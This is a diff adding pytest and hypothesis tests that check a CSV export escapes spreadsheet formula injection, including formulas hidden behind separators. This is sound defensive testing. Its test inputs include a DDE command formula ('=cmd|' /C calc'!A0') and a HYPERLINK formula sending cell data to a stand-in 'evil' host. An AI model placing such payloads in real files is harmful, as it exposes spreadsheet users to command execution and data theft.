@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 import unicodedata
 
 import pytest
@@ -11,6 +14,7 @@ from hypothesis import strategies as st
 from diffviews_desktop.text import plain
 from diffviews_desktop.text.plain import (
     csv_cell,
+    csv_writer,
     elide,
     file_name,
     from_csv_cell,
@@ -20,7 +24,9 @@ from diffviews_desktop.text.plain import (
 )
 
 any_text = st.text(st.characters(), max_size=50)  # lone surrogates, too
-in_a_cell = st.text(st.characters(exclude_characters="\0"), max_size=50)
+in_a_cell = st.text(st.characters(exclude_characters="\0"), max_size=50) | st.text(
+    "';\t|\r\n=+-@＝%\"a,", max_size=12
+)
 
 
 @pytest.mark.parametrize(
@@ -106,7 +112,56 @@ def test_a_cell_is_read_back_equal_and_is_no_formula(text: str) -> None:
     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|", "%"))
 
 
-@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "'=1"])
+@given(in_a_cell)
+def test_no_part_of_a_cell_is_a_formula(text: str) -> None:
+    """Wherever a spreadsheet splits it, and whether or not it minds quotes there."""
+    first, *others = re.split("[;\t|\r\n]", csv_cell(text))
+    for part in (first, *(part.lstrip('"') for part in others)):
+        assert not part.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "%"))
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('b;=HYPERLINK("http://evil/?"&A1);x', "'b;'=HYPERLINK(\"http://evil/?\"&A1);x"),
+        ("c\t=1+1", "'c\t'=1+1"),
+        ("a|@x\r\n-1", "'a|'@x\r\n'-1"),
+        ('a;"=1+1&"&A1', "'a;'\"=1+1&\"&A1"),
+        ("=a;=b", "'=a;'=b"),
+        ("it's; '=b'", "it's; '=b'"),
+        ("a;'=b", "'a;''=b"),
+        ("a; b\tc\n\nd", "a; b\tc\n\nd"),
+    ],
+)
+def test_formulas_behind_a_separator_get_an_apostrophe(text: str, cell: str) -> None:
+    assert csv_cell(text) == cell
+    assert from_csv_cell(csv_cell(text)) == text
+
+
+@given(in_a_cell)
+def test_cells_of_older_files_are_read_as_before(text: str) -> None:
+    """Of those only the beginning had an apostrophe."""
+    older = f"'{text}" if plain._FORMULA.match(text) else text
+    if not (older.startswith("'") and re.search("[;\t|\r\n]'", text)):
+        assert from_csv_cell(older) == text
+
+
+@given(st.lists(st.lists(in_a_cell, min_size=1), min_size=1), st.sampled_from(["\r\n", "\n"]))
+def test_rows_are_read_by_others_as_they_were_written(rows: list[list[str]], end: str) -> None:
+    file = io.StringIO(newline="")
+    csv_writer(file, end).writerows(rows)
+    file.seek(0)
+    assert list(csv.reader(file)) == rows
+    assert file.getvalue().endswith(end)
+
+
+def test_cells_that_a_spreadsheet_would_split_are_in_quotes() -> None:
+    file = io.StringIO(newline="")
+    csv_writer(file).writerows([["a;b", "c\td", "e|f"], ["a b", 1.5, ""]])
+    assert file.getvalue() == '"a;b","c\td","e|f"\r\na b,1.5,\r\n'
+
+
+@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t1", "'=1"])
 def test_formulas_get_an_apostrophe(formula: str) -> None:
     assert csv_cell(formula) == f"'{formula}"
     assert csv_cell("it's = fine") == "it's = fine"
